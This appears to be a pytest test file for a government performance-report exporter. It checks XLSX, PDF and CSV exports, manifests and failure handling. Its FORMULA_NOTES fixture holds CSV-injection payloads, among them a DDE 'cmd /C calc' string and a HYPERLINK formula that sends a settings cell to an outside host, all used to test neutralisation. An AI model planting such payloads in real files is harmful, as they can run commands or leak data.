"""The exports an office files and sends, read back by independent readers."""
from __future__ import annotations

import csv
import io
import json
import zipfile

import openpyxl
import pytest
from hypothesis import given, settings, strategies as st

from kinerja_xl.export import log_csv
from tests.flow import to_step, validated
from tests.readers import pdf_pages, pdf_text

# Notes that a spreadsheet would run as formulas if they reached a cell as they are (OWASP "CSV Injection").
FORMULA_NOTES = {"return": '=HYPERLINK("http://x/?"&Pengaturan!B10,"lihat")', "submit": "@SUM(1+1)*cmd|' /C calc'!A0",
                 "verify": "=cmd|' /C calc'!A0", "validate": "-5 hari\t+62 811"}


def export_folder(book):
    folders = sorted((book.parent / "ekspor").iterdir())
    assert len(folders) == 1
    return folders[0]


def test_validate_exports_xlsx_pdf_csv_and_manifest_named_by_sop_year_period_time(cli, book):
    r = validated(cli, book)
    folder = export_folder(book)
    assert folder.name == "SOP-01-SETWAN_2026_TW-IV_20261007-1005" and str(folder) in r.out
    assert sorted(p.suffix for p in folder.iterdir()) == [".csv", ".json", ".pdf", ".xlsx"]


def test_exported_xlsx_has_values_only_no_vba_protected_and_print_ready(cli, book):
    validated(cli, book)
    xlsx = next(export_folder(book).glob("*.xlsx"))
    with zipfile.ZipFile(xlsx) as z:
        assert not any("vba" in n.lower() for n in z.namelist())
    wb = openpyxl.load_workbook(xlsx)
    assert wb.sheetnames == ["Ringkasan", "Grafik", "1 Disposisi", "2 Perintah", "3 Input Data", "4 Verifikasi",
                             "5 Validasi", "Log"]
    for ws in wb.worksheets:
        assert ws.protection.sheet and str(ws.page_setup.paperSize) == ws.PAPERSIZE_A4
        assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    texts = [c.value for row in wb["Ringkasan"].iter_rows() for c in row if isinstance(c.value, str)]
    assert "ARDIANSYAH, S.AP" in texts and "NIP. 19620718 198302 1 004" in texts
    assert "07-10-2026 10:05 WITA" in texts and not [t for t in texts if "T10:05:00" in t]  # never ISO
    assert any(t.startswith("5:") and len(t) == 66 for t in texts)  # the log head, N:HASH


def test_pdf_contains_indicator_table_and_signer_as_text_and_as_pictures(cli, book, tmp_path):
    validated(cli, book)
    pdf = next(export_folder(book).glob("*.pdf"))
    text = " ".join(pdf_text(pdf).split())
    for expected in ("Persentase rapat DPRD", "terfasilitasi", "penyelesaian risalah", "Capaian", "106,67",
                     "ARDIANSYAH, S.AP", "NIP. 19620718 198302 1 004", "Durasi per Langkah"):
        assert expected in text, expected
    pages = pdf_pages(pdf, tmp_path / "hal")
    assert pages and all(p.stat().st_size > 1000 for p in pages)


def test_log_csv_has_bom_and_every_entry(cli, book):
    validated(cli, book)
    raw = next(export_folder(book).glob("*_log.csv")).read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(raw.decode("utf-8-sig").splitlines()))
    assert rows[0][:3] == ["No", "Waktu (WITA)", "Pengguna"] and len(rows) == 6


def test_manifest_lists_digests_and_check_dir_finds_a_changed_file(cli, book):
    validated(cli, book)
    folder = export_folder(book)
    manifest = json.loads((folder / "manifest.json").read_text())
    assert set(manifest["berkas"]) == {p.name for p in folder.iterdir() if p.name != "manifest.json"}
    assert manifest["log"]["baris"] == 5 and set(manifest["data"]) == {"1", "2", "3", "4", "5"}
    assert cli("check", folder).code == 0
    csv_file = next(folder.glob("*.csv"))
    csv_file.write_bytes(csv_file.read_bytes() + b"x")
    r = cli("check", folder)
    assert r.code == 1 and f"Berkas '{csv_file.name}' berubah" in r.out


def test_export_before_validation_is_refused_and_draft_stamps_every_page(cli, book):
    to_step(cli, book, 4)
    r = cli("export", book)
    assert r.code == 3 and "--draft" in r.err and not (book.parent / "ekspor").exists()
    r = cli("export", book, "--draft", now="2026-10-06T08:00")
    assert r.code == 0
    folder = export_folder(book)
    assert folder.name.endswith("_DRAFT")
    pages = pdf_text(next(folder.glob("*.pdf"))).split("\f")
    assert all("DRAFT" in page for page in pages if page.strip())


def test_an_earlier_export_is_never_overwritten(cli, book):
    validated(cli, book)
    first = export_folder(book)
    before = {p.name: p.read_bytes() for p in first.iterdir()}
    assert cli("export", book, "--no-pdf", now="2026-10-07T10:05").code == 0
    folders = sorted((book.parent / "ekspor").iterdir())
    assert len(folders) == 2 and folders[1].name == first.name + "-2"
    assert {p.name: p.read_bytes() for p in first.iterdir()} == before


def test_without_libreoffice_the_export_still_makes_its_pdf(cli, book, monkeypatch):
    import shutil as sh

    real = sh.which
    monkeypatch.setattr(sh, "which", lambda name, *a, **k: None if name in ("soffice", "libreoffice") else real(name))
    r = validated(cli, book)
    assert "gagal" not in r.err
    assert sorted(p.suffix for p in export_folder(book).iterdir()) == [".csv", ".json", ".pdf", ".xlsx"]
    assert cli("export", book, "--no-pdf").code == 0


def test_a_failure_mid_export_leaves_no_folder_and_says_what_failed(cli, book, monkeypatch):
    from kinerja_xl.export import folder as export

    validated(cli, book)
    first = export_folder(book)
    before = {p.name: p.read_bytes() for p in first.iterdir()}
    real, calls = export._write, []

    def disk_full_at_the_log(path, raw):
        calls.append(path.name)
        if path.name.endswith("_log.csv"):
            raise OSError(28, "No space left on device")
        real(path, raw)

    monkeypatch.setattr(export, "_write", disk_full_at_the_log)
    r = cli("export", book, now="2026-10-07T11:00")
    assert r.code == 4 and "Ekspor gagal saat menulis" in r.err and "_log.csv" in r.err, r.err
    assert len(calls) == 3  # xlsx and PDF were written before the failure
    assert list((book.parent / "ekspor").iterdir()) == [first]  # no new folder, no staging left, nothing hidden
    assert {p.name: p.read_bytes() for p in first.iterdir()} == before


def test_a_bug_mid_export_leaves_no_folder_either(cli, book, monkeypatch):
    from kinerja_xl.export import folder as export

    to_step(cli, book, 4)

    def broken(*args):
        raise RuntimeError("bug")

    monkeypatch.setattr(export, "_manifest", broken)
    r = cli("export", book, "--draft", now="2026-10-06T08:00")
    assert r.code == 5 and "Traceback" not in r.err + r.out
    assert list((book.parent / "ekspor").iterdir()) == []


def test_demo_run_twice_keeps_the_first_archive(cli, tmp_path):
    out = tmp_path / "demo"
    assert cli("demo", "--out", out).code == 0
    [first] = (out / "ekspor").iterdir()
    before = {p.name: p.read_bytes() for p in first.iterdir()}
    r = cli("demo", "--out", out)
    assert r.code == 0 and "tetap disimpan" in r.out
    folders = sorted((out / "ekspor").iterdir())
    assert folders == [first, first.with_name(first.name + "-2")]
    assert {p.name: p.read_bytes() for p in first.iterdir()} == before
    assert cli("check", folders[1]).code == 0


def validated_with_notes(cli, book, notes: dict[str, str]):
    """The SOP with a note on every action after step 3: returned once, sent again, verified and validated."""
    to_step(cli, book, 4)
    steps = [("return", "ridha", "2026-10-05T11:00", ()), ("submit", "rahmah", "2026-10-05T11:30", ()),
             ("verify", "ridha", "2026-10-06T09:05", ("verifikasi_tanggal=06-10-2026",
                                                       *(f"reviu[{i}].hasil=sesuai" for i in range(1, 9)))),
             ("validate", "ardiansyah", "2026-10-07T10:05", ("validasi_tempat=Paringin", "validasi_tanggal=07-10-2026"))]
    for verb, user, when, values in steps:
        if values:
            assert cli("set", book, *values, "--as", user, now=when[:-1] + "0").code == 0
        r = cli(verb, book, "--as", user, "--note", notes[verb], now=when)
        assert r.code == 0, r.err
    return next((book.parent / "ekspor").iterdir())


@pytest.fixture(scope="module")
def noted_export(module_cli, tmp_path_factory, demo_bytes):
    book = tmp_path_factory.mktemp("catatan") / "Kinerja_SETWAN.xlsm"
    book.write_bytes(demo_bytes)
    return validated_with_notes(module_cli, book, FORMULA_NOTES)


def test_log_csv_neutralises_text_a_spreadsheet_would_run_as_a_formula(noted_export):
    raw = next(noted_export.glob("*_log.csv")).read_bytes()
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    notes = {row[9] for row in rows[1:]}
    assert {"'" + note for note in FORMULA_NOTES.values()} <= notes
    assert not any(cell[:1] in "=+-@\t\r" for row in rows for cell in row if cell)
    assert [row[0] for row in rows[1:]] == [str(n) for n in range(1, len(rows))]   # numbers stay numbers


def test_exported_xlsx_keeps_formula_like_notes_as_text(noted_export):
    wb = openpyxl.load_workbook(next(noted_export.glob("*.xlsx")))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if c.data_type == "s"}
    assert set(FORMULA_NOTES.values()) <= texts


def test_check_of_the_folder_reads_neutralised_notes_back_as_logged(module_cli, noted_export):
    r = module_cli("check", noted_export)
    assert r.code == 0, r.out


@settings(max_examples=300, deadline=None, database=None)
@given(st.text(alphabet=st.sampled_from("'=+-@\t\r\n\uff1dab 1,\""), max_size=8) | st.text(max_size=8))
def test_neutralised_csv_text_never_starts_a_formula_and_reads_back_exactly(text):
    written = log_csv.neutralise(text)
    assert written[:1] not in log_csv.FORMULA_START and log_csv.restore(written) == text
    rows = log_csv.from_bytes(log_csv.to_bytes(["a"], [[text]]))
    assert rows == [["a"], [text]]


def test_numbers_stay_numbers_in_the_csv():
    assert log_csv.neutralise(-5) == -5 and log_csv.neutralise(-0.5) == -0.5 and log_csv.neutralise("-5") == "'-5"
    assert log_csv.to_bytes(["n"], [[-5, "-5"]]).decode("utf-8-sig") == "n\r\n-5,'-5\r\n"
